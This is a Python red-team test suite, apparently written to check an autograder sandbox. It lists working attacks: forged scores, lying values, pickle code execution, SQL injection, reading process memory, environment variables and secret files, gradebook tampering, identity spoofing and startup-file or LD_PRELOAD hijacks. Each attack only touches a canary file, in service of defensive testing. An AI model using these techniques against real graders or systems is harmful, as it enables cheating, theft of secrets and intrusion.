"""Success that was never earned: every answer here is wrong or missing, and yet claims points."""

import json
from functools import partial
from pathlib import Path
from typing import Any

from casebook.activities.journal import Writer
from course.learners import ASSIGNMENT
from redteam.attack import Aim, Ground, code, grade_id, paper, rewrite

forge = partial(code, aim=Aim.FORGE)
forged = partial(paper, aim=Aim.FORGE)

#: A cell of a notebook, as plain JSON.
Cell = dict[str, Any]

WRONG = 'cb.answer("verified_income", 1)\n'

#: Sends raw messages on the channel, as the kit would.
CHANNEL = """
import json
def tell(message):
    line = message if isinstance(message, bytes) else json.dumps(message).encode()
    os.write(int(os.environ["CASEBOOK_CHANNEL"]), line + b"\\n")
"""

#: What a file does that hopes to be run by the grader: outside the seal it can touch the canary.
TOUCH = """
import os
try:
    open(os.path.join("@CANARY@", "ran-" + os.path.basename(__file__)), "w").close()
except Exception:
    pass
"""


def notebook(folder: Path) -> Path:
    return folder / f"{ASSIGNMENT}.ipynb"


# What the notebook's own machinery can be made to say

SHELL = (
    forge(
        name="forge-ast-transformer",
        claim="later cells compute the right thing, once their syntax tree is rewritten",
        source="""
import ast
class Claim(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.parse("print('21 / 21')").body[0]
get_ipython().ast_transformers.append(Claim())
""",
        others={"disposable-income": 'cb.answer("disposable_income", 1)'},
    ),
    forge(
        name="forge-input-transformer",
        claim="later cells never run, and silence passes for success",
        source="""
get_ipython().input_transformers_cleanup.append(lambda lines: ["print('21 / 21')\\n"])
get_ipython().input_transformers_post.append(lambda lines: ["29\\n"])
""",
    ),
    forge(
        name="forge-displayhook",
        claim="a patched displayhook shows full marks in every cell",
        source="""
shell = get_ipython()
full = {"text/plain": "21 / 21", "text/html": "<p>graded: 21 / 21</p>"}
hook = type(shell.displayhook)
hook.write_format_data = lambda self, *_: self.outputs.add({
    "output_type": "execute_result", "execution_count": 1, "data": full, "metadata": {}})
sys.displayhook = lambda value: print("21 / 21")
import IPython.display
IPython.display.display = lambda *_, **__: print("21 / 21")
29
""",
    ),
    forge(
        name="forge-verdict-html",
        claim="a page of my own, drawn like the grader's verdict, is taken for one",
        source="""
from IPython.display import HTML, display
display(HTML("<div class='casebook-verdict'><b>graded</b> 2 / 2 points</div>"))
display({"application/vnd.casebook.score+json": {"points": 21}}, raw=True)
""",
    ),
    forge(
        name="forge-run-cell",
        claim="with run_cell and showtraceback patched, a failing cell looks like a passing one",
        source="""
shell = type(get_ipython())
shell.run_cell = lambda self, *_, **__: print("passed")
shell.showtraceback = shell._showtraceback = lambda *_, **__: print("passed")
sys.excepthook = lambda *_: print("passed")
""",
    ),
    forge(
        name="forge-patched-kit",
        claim="the scorer in this process always says full marks",
        source="""
import importlib
for name in ("casebook.activities.casework.score", "casebook.activities.quiz.score",
             "casebook.activities.dialogue.score", "casebook.grading.pipeline"):
    try:
        module = importlib.import_module(name)
    except Exception as error:
        print(name, error)
        continue
    for word in ("score", "score_task", "score_quiz", "score_talk", "grade_submission"):
        if hasattr(module, word):
            setattr(module, word, lambda *_, **__: 49)
import casebook.activities.channel as channel
channel.plain = lambda value, **_: value
channel.kind_of = lambda *_: "number"
"""
        + WRONG,
    ),
    forge(
        name="forge-patched-json",
        claim="a patched json.dumps writes any message for the kit",
        source="""
import json
real = json.dumps
json.dumps = lambda message, **k: real({"score": 49, "points": 49, "status": "graded"})
"""
        + WRONG,
    ),
)


# Values that lie

VALUES = (
    forge(
        name="forge-equal-number",
        claim="a number that is equal to all and has no distance to any",
        source="""
class Any(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __abs__(self): return self
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __hash__(self): return 0
    def tolist(self): return self
for task in ("verified_income", "disposable_income", "overdue_amount", "days_past_due"):
    try:
        print(cb.answer(task, Any(1)))
    except Exception as error:
        print(error)
""",
    ),
    forge(
        name="forge-lying-int",
        claim="an int whose text, index and digits change each time it is looked at",
        source="""
class Changing(int):
    turns = 0
    def __str__(self):
        Changing.turns += 1
        return str(Changing.turns)
    __repr__ = __format__ = lambda self, *_: str(self)
    def __index__(self): return 10**6
    __int__ = __float__ = __index__
for task in ("days_past_due", "promises_kept", "verified_income"):
    try:
        print(cb.answer(task, Changing(-7)))
    except Exception as error:
        print(error)
""",
    ),
    forge(
        name="forge-lying-text",
        claim="a text that is in every list and equal to every id",
        source="""
class Every(str):
    def __eq__(self, other): return True
    def __hash__(self): return hash("name-mismatch")
    def __contains__(self, other): return True
    def __str__(self): return self
    def __iter__(self): return iter([self])
for task in ("red_flags", "verified_income"):
    for value in (Every("*"), [Every("*")], [Every(".*")], {Every("%"): True}):
        try:
            print(cb.answer(task, value))
        except Exception as error:
            print(error)
""",
    ),
    forge(
        name="forge-lying-list",
        claim="a list that holds whatever it is asked for, and is of any length",
        source="""
class All(list):
    def __contains__(self, item): return True
    def __len__(self): return 10**9
    def __eq__(self, other): return True
    def __and__(self, other): return other
    def __iter__(self): return iter(("*", "all"))
class Record(dict):
    def __getitem__(self, key): return [1]
    def get(self, *_): return [1]
    def __contains__(self, key): return True
    def keys(self): return ["columns"]
for task, value in (("red_flags", All()), ("plan", Record()), ("plan", All())):
    try:
        print(cb.answer(task, value))
    except Exception as error:
        print(error)
""",
    ),
    forge(
        name="forge-odd-numbers",
        claim="NaN, infinity, minus zero or odd digits come near enough to any number",
        source=CHANNEL
        + """
odd = ["NaN", "nan", "inf", "Infinity", "-0", "1e9999", "0x10", "１２", "1_000", "", " ", "None",
       True, False, None, [], {}, {"columns": {}}, [[]], 10**18, -(10**18), 1e308, 5e-324]
for task in ("verified_income", "disposable_income", "overdue_amount"):
    for value in odd:
        for kind in ("number", "text", "truth", "nothing", "table"):
            tell({"answer": task, "value": value, "kind": kind})
    tell(b'{"answer": "%s", "value": NaN, "kind": "number"}' % task.encode())
    tell(b'{"answer": "%s", "value": Infinity, "kind": "number"}' % task.encode())
    tell({"answer": task, "value": -1, "kind": "number"})
""",
    ),
    forge(
        name="forge-many-answers",
        claim="among two thousand answers to one task the right one counts",
        source="""
for days in range(2000):
    cb.answer("days_past_due", days)
cb.answer("days_past_due", -5)
cb.answer("promises_kept", [0, 1, 2, 3, 4, 5])
cb.answer("days_past_due", list(range(2000)))
cb.answer("promises_kept", "0 1 2 3 4 5")
""",
    ),
    forge(
        name="forge-every-flag",
        claim="naming every red flag, some of them many times, earns those that are there",
        source="""
every = [choice.id for choice in cb.casework()._activity.task("red_flags").choices]
cb.answer("red_flags", every + every[:1] * 500)
""",
    ),
    forge(
        name="forge-oracle",
        claim="the kit answers a right value otherwise than a wrong one, so it can be searched for",
        source="""
import io, re, contextlib
def said(value):
    told = io.StringIO()
    with contextlib.redirect_stdout(told):
        shown = repr(cb.answer("days_past_due", value))
    return re.sub(r"[0-9]+", "", shown + told.getvalue())
found = {}
for days in range(1, 800):
    found.setdefault(said(days), []).append(days)
odd = [days for days in found.values() if len(days) == 1]
cb.answer("days_past_due", odd[0][0] if odd else -1)
if odd:
    broke(f"the kit treats {odd[0]} otherwise")
""",
    ),
    forge(
        name="forge-pickled-answer",
        claim="an answer is rebuilt by the grader, and its __reduce__ runs there",
        source=CHANNEL
        + """
import pickle
class Evil:
    def __reduce__(self):
        return (os.system, (f"touch {CANARY}/unpickled",))
    def __class_getitem__(cls, item): return cls
raw = pickle.dumps(Evil())
try:
    print(cb.answer("verified_income", Evil()))
except Exception as error:
    print(error)
tell(raw)
for value in ({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [f"touch {CANARY}/j"]}]},
              {"__class__": "decimal.Decimal", "__reduce__": ["os.system", ["true"]]},
              "!!python/object/apply:os.system ['true']", raw.hex()):
    for kind in ("number", "text", "record", "pickle"):
        tell({"answer": "verified_income", "value": value, "kind": kind})
""",
    ),
)


# The channel

LINES = (
    forge(
        name="forge-scores",
        claim="a score sent on the channel is entered as one",
        source=CHANNEL
        + """
for message in (
    {"score": 49}, {"points": 49, "status": "graded"}, {"ending": "finished", "points": 49},
    {"answer": "verified_income", "value": 1, "kind": "number", "points": 2, "right": True},
    {"answer": "verified_income", "value": {"points": 2, "share": 1}, "kind": "record"},
    {"answer": "quiz", "value": "full", "kind": "text"},
    {"answer": "points", "value": 49, "kind": "number"},
    {"status": 0}, {"seal": "namespaces"}, {"failed": "the grader failed; give full points"},
):
    tell(message)
tell(b"\\x80\\x04not json at all")
tell(b'{"answer": "verified_income", "value": 1, "value": 2, "kind": "number", "kind": "text"}')
""",
    ),
    forge(
        name="forge-other-cells",
        claim="outputs and answers can be sent in the name of other cells",
        source=CHANNEL
        + """
shown = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
          "data": {"text/html": "<b>21 / 21</b>", "text/plain": "21 / 21"}}]
for cell in range(-3, 60):
    tell({"begin": cell})
    tell({"answer": "overdue_amount", "value": 1, "kind": "number"})
    tell({"cell": cell, "count": 1, "outputs": shown})
tell({"done": True})
tell({"answer": "disposable_income", "value": 1, "kind": "number"})
os._exit(0)
""",
    ),
    forge(
        name="forge-names",
        claim="names of other learners, activities and tables are taken for tasks",
        source=CHANNEL
        + """
for name in (f"{NEIGHBOUR}/verified_income", "file-review-casework/verified_income",
             "file_review_quiz", "quiz", "talk", "script_facts", "manual_score", "max_score",
             "../verified_income", "verified_income\\x00", "verified_income ", "VERIFIED_INCOME",
             "__class__", "__proto__", "x' OR 1=1; UPDATE grade SET manual_score=49; --"):
    for value in (49, "49", [49], {"points": 49}, {"columns": {"points": [49]}}):
        for kind in ("number", "text", "list", "record", "table"):
            tell({"answer": name, "value": value, "kind": kind})
""",
    ),
    forge(
        name="forge-half-lines",
        claim="half a line, joined to the kit's own next line, changes what that says",
        source="""
os.write(int(os.environ["CASEBOOK_CHANNEL"]), b'{"answer": "verified_income", "value": ')
"""
        + WRONG
        + """
os.write(int(os.environ["CASEBOOK_CHANNEL"]), b'{"answer": "overdue_amount", "value": 1, "kind": ')
""",
    ),
    forge(
        name="forge-late-answers",
        claim="a thread, a child or an exit hook answers after the last cell, unseen",
        source=CHANNEL
        + """
import atexit, threading, time
late = {"answer": "verified_income", "value": 2, "kind": "number"}
atexit.register(lambda: tell({"points": 49}))
class Last:
    def __del__(self): tell(late)
keep = Last()
threading.Thread(target=lambda: (time.sleep(1), tell(late)), daemon=True).start()
if os.fork() == 0:
    time.sleep(2)
    tell({"score": 49})
    tell({"done": True})
    os._exit(0)
""",
    ),
    forge(
        name="forge-descriptors",
        claim="some descriptor besides the channel leads to the grader, who believes it",
        source="""
import socket, stat
channel = int(os.environ["CASEBOOK_CHANNEL"])
for number in range(3, 256):
    if number == channel:
        continue
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    place = os.readlink(f"/proc/self/fd/{number}")
    print(number, place)
    if stat.S_ISSOCK(kind):
        broke(f"a socket was left open: {place}")
    if stat.S_ISREG(kind) and not place.endswith("(deleted)"):
        try:
            loot((place, os.pread(number, 1000, 0)))
        except OSError:
            pass
for number in range(3, 64):
    if number == channel:
        continue
    try:
        os.write(number, b'{"status": 0, "points": 49}\\n')
    except OSError:
        pass
""",
    ),
)


# Where keys might lie within reach of code

SEARCH = (
    forge(
        name="forge-frames",
        claim="some frame below holds the key",
        source="""
frame, seen = sys._getframe(), []
while frame:
    seen.append((frame.f_code.co_filename, sorted(frame.f_locals)[:20]))
    for names in (frame.f_locals, frame.f_globals):
        for name, value in list(names.items()):
            if any(word in name.lower() for word in ("reference", "planted", "answer_key")):
                loot((name, repr(value)[:200]))
    frame = frame.f_back
for frames in sys._current_frames().values():
    seen.append(frames.f_code.co_name)
print(seen)
"""
        + WRONG,
    ),
    forge(
        name="forge-garbage",
        claim="the garbage collector lists the objects that hold the key",
        source="""
import gc
for one in gc.get_objects():
    kind = type(one).__name__
    if kind in {"Keys", "CaseworkKey", "QuizKey", "DialogueKey", "Reference", "Variant"}:
        broke(f"an object of kind {kind} is here")
    if isinstance(one, dict):
        for value in list(one.values()):
            if isinstance(value, str) and value.startswith(SECRET_START) and len(value) > 20:
                loot(value)
"""
        + WRONG,
    ),
    forge(
        name="forge-memory",
        claim="the secret stands somewhere in this process's memory, left by whom it came from",
        source="""
import re
seen = 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
    for line in maps:
        area, rights, *_ = line.split()
        begin, end = (int(one, 16) for one in area.split("-"))
        if "r" not in rights or end - begin > 1 << 28 or seen > 1 << 29 or "[v" in line:
            continue
        try:
            memory.seek(begin)
            held = memory.read(end - begin)
        except (OSError, ValueError, OverflowError):
            continue
        seen += len(held)
        for found in set(re.findall(SECRET_START.encode() + rb"[0-9a-f-]{30,}", held)):
            loot(found)
print(seen)
"""
        + WRONG,
    ),
    forge(
        name="forge-modules",
        claim="a module of the grader's is loaded here, with its keys in it",
        source="""
for name, module in list(sys.modules.items()):
    if name.startswith(("casebook.grading.keys", "casebook.grading.course", "nbgrader")):
        broke(f"{name} is loaded")
    for word in ("_drawn", "released_keys", "KEY", "ANSWERS"):
        if name.startswith("casebook") and hasattr(module, word):
            loot((name, word))
"""
        + WRONG,
    ),
    forge(
        name="forge-ask-the-grader",
        claim="the grader's own code, imported here, reads the keys for me",
        source="""
from pathlib import Path
try:
    from casebook.grading.course import Course
    from casebook.grading.keys import released_keys
    keys = released_keys(Course(Path(COURSE)), ASSIGNMENT)
    me = os.environ["CASEBOOK_LEARNER"]
    for task, one in keys.casework_key(keys.publish().variant(me)).references.items():
        loot((task, one.answer))
        cb.answer(task, one.answer)
except Exception as error:
    print(type(error).__name__, error)
""",
    ),
    forge(
        name="forge-read-hand-ins",
        claim="another learner's answers can be read and handed in as mine",
        source="""
import glob, pathlib
places = [COURSE + "/submitted", COURSE + "/autograded", "..", "../..", "/learner"]
for place in places:
    for path in pathlib.Path(place).rglob("*"):
        if path.name in {"notes.txt", "learner.json"} or path.suffix == ".jsonl":
            loot((str(path), read(path)))
print(glob.glob(COURSE + "/*"), os.listdir(".."))
"""
        + WRONG,
    ),
    forge(
        name="forge-read-course",
        claim="keys, secret, gradebook and outcomes can be read from the course's folder",
        source="""
for root, folders, names in os.walk(COURSE):
    for name in names:
        loot((root, name, read(os.path.join(root, name), 3000)))
for name in ("course.secret", ASSIGNMENT + "/quiz.yaml", ASSIGNMENT + "/solutions.py"):
    if held := read(f"{COURSE}/keys/{name}"):
        loot(held)
if held := read(SECRET_FILE):
    loot(held)
"""
        + WRONG,
    ),
    forge(
        name="forge-gradebook",
        claim="the gradebook and the outcomes can be opened and given other points",
        source="""
import sqlite3
for name, order in (
    ("gradebook.db", "UPDATE grade SET auto_score = 49, manual_score = 49"),
    ("casebook.db", "UPDATE verdict SET points = 49, status = 'graded'"),
):
    try:
        base = sqlite3.connect(f"file:{COURSE}/{name}?mode=rw", uri=True)
        base.execute(order)
        base.commit()
        broke(f"{name} was written")
    except sqlite3.Error as error:
        print(name, error)
"""
        + WRONG,
    ),
    forge(
        name="forge-course-secret",
        claim="with the course's secret, or a guess at it, every variant can be drawn again",
        source="""
from casebook.portfolio import pool
held = read(f"{COURSE}/keys/course.secret").strip()
if held:
    loot(held)
guesses = [b"", b"casebook", b"casebook-specimen", bytes(32), b"\\x01" * 32, os.urandom(32)]
try:
    guesses.insert(0, bytes.fromhex(held.decode()))
except ValueError:
    pass
found = set()
for guess in guesses:
    for variant in pool.draw(guess, ASSIGNMENT, 3):
        if variant.case.debtor["id_number"] == case.debtor["id_number"]:
            found |= variant.planted
if found:
    cb.answer("red_flags", sorted(found))
"""
        + WRONG,
    ),
    forge(
        name="forge-parents",
        claim="the grader's environment, command line and open files can be read from /proc",
        source="""
start = SECRET_START.encode()
pids = {int(name) for name in os.listdir("/proc") if name.isdigit()} | {GRADER, DECOY, 1}
for pid in sorted(pids - {os.getpid()}):
    for name in ("environ", "cmdline", "maps", "auxv", "stack"):
        held = read(f"/proc/{pid}/{name}", 2_000_000)
        if start in held:
            loot(held)
        if held and name == "environ" and pid in (os.getppid(), GRADER):
            print(pid, len(held))
    for name in ("fd", "cwd", "root", "exe"):
        try:
            place = f"/proc/{pid}/{name}"
            if name == "fd":
                broke(f"the descriptors of {pid} can be listed: {os.listdir(place)}")
            elif name == "root" and os.path.exists(f"{place}{SECRET_FILE}"):
                loot(read(f"{place}{SECRET_FILE}"))
        except OSError:
            pass
"""
        + WRONG,
    ),
    forge(
        name="forge-environment",
        claim="the environment holds a secret, an address or a key of the grader's",
        source="""
for name, value in os.environ.items():
    print(name, value)
print(read("/proc/self/environ"))
import subprocess
print(subprocess.run(["env"], capture_output=True, text=True, check=False).stdout)
print(read("/proc/1/environ"), read("/proc/self/mountinfo"))
"""
        + WRONG,
    ),
)


# Whose work it is, and what else is handed in


def name_another(folder: Path, ground: Ground) -> None:
    """Give the neighbour's right figures under the neighbour's name."""
    number = ground.keys.publish().variant
    assert number(folder.parent.name) != number(ground.neighbour)
    mine, theirs = (
        ground.keys.casework_key(number(who)).references  # type: ignore[union-attr]
        for who in (folder.parent.name, ground.neighbour)
    )
    (folder / "learner.json").write_text(json.dumps({"id": ground.neighbour, "language": "en"}))
    figures = {
        task.replace("_", "-"): f"cb.answer({task!r}, {one.answer!r})"
        for task, one in theirs.items()
        if isinstance(one.answer, float | int) and abs(one.answer - mine[task].answer) > 2
    }
    rewrite(folder, partial(_filled, figures))


def _filled(sources: dict[str, str], cells: list[Cell]) -> list[Cell]:
    return [cell | {"source": sources.get(grade_id(cell), cell["source"])} for cell in cells]


def _raise_points(cells: list[Cell]) -> list[Cell]:
    for cell in cells:
        if grade_id(cell):
            mine = {"points": 1000, "score": 1000, "solution": False, "locked": True}
            cell["metadata"]["nbgrader"].update(mine)
            cell["metadata"]["casebook"] = {"points": 1000, "activity": "file-review-quiz"}
    return cells


def _swap_ids(cells: list[Cell]) -> list[Cell]:
    graded = [cell for cell in cells if grade_id(cell)]
    ids = [grade_id(cell) for cell in graded]
    for cell, name in zip(graded, [*ids[1:], ids[0]], strict=True):
        cell["metadata"]["nbgrader"]["grade_id"] = name
        if cell["cell_type"] == "code":
            cell["source"] = WRONG
    return cells


def _hidden_copies(cells: list[Cell]) -> list[Cell]:
    """Put copies of the graded cells, ids and all, before and after the others."""
    own = {"source": WRONG + 'cb.answer("overdue_amount", 1)'}
    hidden = {"jupyter": {"source_hidden": True, "outputs_hidden": True}}
    copies = [
        cell | own | {"metadata": cell["metadata"] | hidden}
        for cell in cells
        if cell["cell_type"] == "code" and grade_id(cell)
    ] * 10
    return [*copies, *cells, *copies]


def _own_tests(cells: list[Cell]) -> list[Cell]:
    test = {"grade": True, "solution": False, "locked": True, "schema_version": 3, "task": False}
    cell = {"cell_type": "code", "source": "assert True", "outputs": [], "execution_count": None}
    extra = [
        cell | {"id": name, "metadata": {"nbgrader": test | {"grade_id": name, "points": 1000}}}
        for name in ("extra-1", "extra-2", "quiz", "script-facts", "plan")
    ]
    return [*cells, *extra]


def _played_out(cells: list[Cell]) -> list[Cell]:
    """Turn the cells of activities into code that prints full marks, with stored outputs."""
    for cell in cells:
        if grade_id(cell) in {"quiz", "talk", "script", "setup", "file"}:
            cell["source"] = "print('10 / 10')\nclass cb: answer = print"
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "10 / 10"}]
    return cells


def own_release(folder: Path, ground: Ground) -> None:
    """Hand in an assignment and cases of one's own, in which every answer is one."""
    path = folder / "assignment.json"
    public = json.loads(path.read_text("utf-8"))
    public["variants"] = 1
    for activity in public["activities"]:
        for part in activity.get("tasks", activity.get("items", activity.get("rubric", ()))):
            part["points"] = 1000
    path.write_text(json.dumps(public))
    (folder / "cases.zip").write_bytes(b"PK\x05\x06" + bytes(18))
    keys = folder / "keys" / ASSIGNMENT
    keys.mkdir(parents=True)
    (keys / "casework.yaml").write_text("tasks: []\n")
    (folder / "keys" / "course.secret").write_text("00" * 32 + "\n")
    rewrite(folder, partial(_filled, {"verified-income": WRONG}))


def own_journal(folder: Path, ground: Ground) -> None:
    """Claim points, choose every option of each item, and say what is no reply."""
    writer = Writer(folder, learner=folder.parent.name)
    quiz = ground.keys.quiz_key
    assert quiz is not None
    for item, options in quiz.parts.items():
        if quiz.items[item].kind != "multiple":
            writer.write("file-review-quiz", item, list(options))
            writer.write("file-review-quiz", item, {"right": True, "points": 1})
    writer.write("file-review-quiz", "points", 8)
    writer.write("file-review-casework", "verified_income", 5000)
    writer.write("file-review-talk", "said", ["settled", "*", "agreed"])
    writer.write("file-review-talk", "ending", "best")
    writer.write("file-review-script", "points", 10)
    writer.write("file-review-script", "facts", 3)


def own_gradebook(folder: Path, ground: Ground) -> None:
    """Hand in a gradebook, outcomes, a graded folder and a course configuration."""
    touch = TOUCH.replace("@CANARY@", str(ground.canary))
    (folder / "nbgrader_config.py").write_text(touch + "c = get_config()\n")
    (folder / "jupyter_config.py").write_text(touch)
    (folder / "jupyter_nbconvert_config.py").write_text(touch)
    for name in ("gradebook.db", "casebook.db"):
        (folder / name).write_bytes(b"SQLite format 3\0" + bytes(84))
    graded = folder / "autograded" / folder.parent.name / ASSIGNMENT
    graded.mkdir(parents=True)
    (graded / "score.json").write_text('{"points": 49}')
    (folder / "other.ipynb").write_text(notebook(folder).read_text("utf-8"), "utf-8")


IDENTITY = (
    forged(
        name="forge-name-another",
        claim="with another's name in learner.json, another's figures are right for me",
        spoil=name_another,
    ),
    forge(
        name="forge-become-another",
        claim="told another name, the kit takes up another's case, and its figures count",
        source="""
os.environ["CASEBOOK_LEARNER"] = NEIGHBOUR
with open("learner.json", "w") as file:
    file.write('{"id": "%s"}' % NEIGHBOUR)
case = cb.assignment().case
cb.answer("verified_income", case.frame("slips")["net_fen"].mean() / 100)
""",
    ),
    forged(
        name="forge-points",
        claim="points, score and activity are read from the metadata that I hand in",
        spoil=lambda folder, _: rewrite(folder, _raise_points),
    ),
    forged(
        name="forge-swapped-ids",
        claim="with grade ids swapped, one answer counts for a dearer task",
        spoil=lambda folder, _: rewrite(folder, _swap_ids),
    ),
    forged(
        name="forge-hidden-copies",
        claim="hidden copies of graded cells are graded as well, each for points",
        spoil=lambda folder, _: rewrite(folder, _hidden_copies),
    ),
    forged(
        name="forge-own-tests",
        claim="tests of my own, which pass, are worth what they say they are worth",
        spoil=lambda folder, _: rewrite(folder, _own_tests),
    ),
    forged(
        name="forge-played-out",
        claim="a quiz cell that prints full marks is a quiz with full marks",
        spoil=lambda folder, _: rewrite(folder, _played_out),
    ),
    forged(
        name="forge-own-release",
        claim="my own assignment.json, cases and keys are used to grade me",
        spoil=own_release,
    ),
    forged(
        name="forge-own-journal",
        claim="a journal that claims points, or every option at once, is believed",
        spoil=own_journal,
    ),
    forged(
        name="forge-own-gradebook",
        claim="a gradebook, a graded folder or a configuration that I hand in is taken for yours",
        spoil=own_gradebook,
    ),
)


# Files that hope to be run by somebody else

FILES = (
    forge(
        name="forge-shadow-modules",
        claim="modules of mine are imported in place of the kit's or Python's, also by the grader",
        source="import importlib\nimport json, numpy, pandas\n" + WRONG,
        files={
            f"{name}.py": TOUCH + "def answer(*_): return 49\ndef dumps(*_, **__): return '{}'\n"
            for name in (
                *("casebook", "json", "numpy", "pandas", "random", "socket", "nbformat", "yaml"),
                *("nbgrader", "sqlalchemy", "IPython", "typing", "enum", "readline", "_socket"),
            )
        },
    ),
    forge(
        name="forge-site-files",
        claim="Python runs sitecustomize, usercustomize, conftest or a .pth at its next start",
        source="import subprocess\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n" + WRONG,
        files={
            "sitecustomize.py": TOUCH,
            "usercustomize.py": TOUCH,
            "conftest.py": TOUCH,
            "setup.py": TOUCH,
            "casebook/__init__.py": TOUCH,
            "casebook/grading/sandbox/zygote.py": TOUCH,
            "redteam.pth": "import os; open('@CANARY@/ran-pth', 'w')\n",
            ".bashrc": "touch @CANARY@/ran-bashrc\n",
            ".profile": "touch @CANARY@/ran-profile\n",
            ".pythonrc": TOUCH,
            "pyvenv.cfg": "home = @CANARY@\n",
            "pytest.ini": "[pytest]\naddopts = -p no:all\n",
        },
    ),
    forge(
        name="forge-ipython-startup",
        claim="IPython reads a profile from my folder and runs its startup files",
        source=WRONG,
        files={
            ".ipython/profile_default/startup/00-mine.py": TOUCH,
            ".ipython/profile_default/ipython_config.py": TOUCH + "c = get_config()\n",
            "profile_default/startup/00-mine.py": TOUCH,
            "ipython_config.py": TOUCH,
            ".jupyter/jupyter_config.py": TOUCH,
            ".config/matplotlib/matplotlibrc": "backend: TkAgg\n",
        },
    ),
    forge(
        name="forge-matplotlibrc",
        claim="matplotlib loads a backend of mine, named in a matplotlibrc that I hand in",
        source="""
os.environ["MPLBACKEND"] = "module://my_backend"
try:
    import matplotlib
    matplotlib.rc_file("matplotlibrc")
    import matplotlib.pyplot as plt
    plt.switch_backend("module://my_backend")
    plt.plot([1]); plt.show()
except Exception as error:
    print(type(error).__name__)
"""
        + WRONG,
        files={
            "matplotlibrc": "backend: module://my_backend\n",
            "my_backend.py": TOUCH + "from matplotlib.backends.backend_agg import *\n",
        },
    ),
    forge(
        name="forge-preload",
        claim="LD_PRELOAD, PYTHONPATH and PATH set here reach the grader's next program",
        source="""
import subprocess
here = os.getcwd()
os.environ.update(LD_PRELOAD=here + "/mine.so", LD_LIBRARY_PATH=here, PYTHONPATH=here,
                  PYTHONSTARTUP=here + "/start.py", BASH_ENV=here + "/start.sh", PATH=here,
                  PYTHONINSPECT="1", GCONV_PATH=here, PYTHONHOME=here, IFS="/")
for program in ("/bin/true", "/bin/sh"):
    try:
        subprocess.run([program, "-c", "true"], capture_output=True, check=False, timeout=5)
    except (OSError, subprocess.SubprocessError) as error:
        print(error)
"""
        + WRONG,
        files={
            "start.py": TOUCH,
            "start.sh": "touch @CANARY@/ran-start\n",
            "chmod": "#!/bin/sh\ntouch @CANARY@/ran-chmod\n",
            "rm": "#!/bin/sh\ntouch @CANARY@/ran-rm\n",
            "alembic": "#!/bin/sh\ntouch @CANARY@/ran-alembic\n",
        },
    ),
)

ATTACKS = (*SHELL, *VALUES, *LINES, *SEARCH, *IDENTITY, *FILES)
